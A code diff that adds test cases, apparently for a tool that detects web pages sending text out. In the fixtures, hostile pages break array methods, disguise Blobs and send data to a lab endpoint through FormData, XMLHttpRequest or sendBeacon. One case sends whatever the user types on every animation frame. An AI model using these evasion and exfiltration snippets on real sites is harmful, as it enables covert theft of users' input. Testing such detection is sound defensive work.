@@ -16,15 +16,14 @@ const spoiledPaste = (name: string, spoil: string): ChannelCase => ({
   looseEvents: true,
 });
 /** The same, but the page's script sends a text it holds: the hooks stand where the page can reach them. */
-const spoiledScript = (name: string, spoil: string, send = 'lab.send(text)', open?: string): ChannelCase => ({
+const spoiledScript = (name: string, spoil: string, send = 'lab.send(text)'): ChannelCase => ({
   name: `a script, on a page that ${name}`,
-  ...(open ? { open } : {}),
   page: `<script>(() => { ${spoil} })()</script>${scripted(send)}`,
   drive: go,
 });
-const both = (name: string, spoil: string, open?: string): ChannelCase[] => [
-  { ...spoiledPaste(name, spoil), ...(open ? { open } : {}) },
-  spoiledScript(name, spoil, undefined, open),
+const both = (name: string, spoil: string): ChannelCase[] => [
+  spoiledPaste(name, spoil),
+  spoiledScript(name, spoil),
 ];
 const silence = (path: string, names: string, value: string) =>
   `for (const n of '${names}'.split(' ')) { try { Object.defineProperty(${path}, n, { configurable: true, writable: true, value: ${value} }) } catch {} }`;
@@ -46,7 +45,27 @@ const cases: ChannelCase[] = [
   ...both(
     'spoils arrays',
     `${silence('Array.prototype', 'push map filter some every find forEach includes join slice concat flatMap reduce indexOf', '() => []')} Array.prototype[Symbol.iterator] = function* () {}; Array.from = () => []; Array.isArray = () => false;`,
-    'the hooks lose the body on such a page, clean ones too',
+  ),
+  ...(
+    [
+      ['a form', 'const f = new FormData(); f.append("m", text); lab.send(f)'],
+      ['a Blob', 'lab.send(new Blob([text]))'],
+      ['a request with headers', 'lab.send(text, "in", { headers: { "X-A": "b?" } })'],
+      [
+        'XMLHttpRequest',
+        'const x = new XMLHttpRequest(); x.open("POST", lab.at("in")); x.setRequestHeader("X-A", "b?"); x.send(text)',
+      ],
+    ] as const
+  ).map(([what, send]) =>
+    spoiledScript(
+      `spoils the methods of arrays and sends ${what}`,
+      silence(
+        'Array.prototype',
+        'push map filter some every find forEach includes join slice concat flatMap reduce indexOf with splice',
+        '() => []',
+      ),
+      send,
+    ),
   ),
   ...both(
     'spoils strings',
@@ -175,13 +194,16 @@ const cases: ChannelCase[] = [
     'claims a bare prototype for its body',
     '',
     `const p = new URLSearchParams({ m: text }); Object.setPrototypeOf(p, Object.prototype); lab.send(p)`,
-    'a body without its prototype is not recognised',
   ),
   spoiledScript(
     'gives its Blob another name tag',
     '',
     `const b = new Blob([text]); Object.defineProperty(b, Symbol.toStringTag, { value: 'Nothing' }); Object.setPrototypeOf(b, null); lab.send(b)`,
-    'a body without its prototype is not recognised',
+  ),
+  spoiledScript(
+    'calls its Blob a file of the person',
+    '',
+    `const b = await (await fetch(URL.createObjectURL(new Blob([text])))).blob(); Object.defineProperty(b, Symbol.toStringTag, { value: 'File' }); lab.send(b)`,
   ),
   // Events that claim to be ours
   spoiledScript(
@@ -223,7 +245,6 @@ const cases: ChannelCase[] = [
   },
   {
     name: 'typing, on a page that stops listening to keys by itself and reads the field in a frame callback',
-    silent: 'what is typed and withheld is not recorded until a send button is pressed',
     page: `${EDITABLE}<script>const t = document.getElementById('t'); let last = ''; const look = () => { if (t.innerText !== last) { last = t.innerText; navigator.sendBeacon(lab.at('in'), last) } requestAnimationFrame(look) }; look()</script>`,
     async drive(user) {
       await user.click('#t');
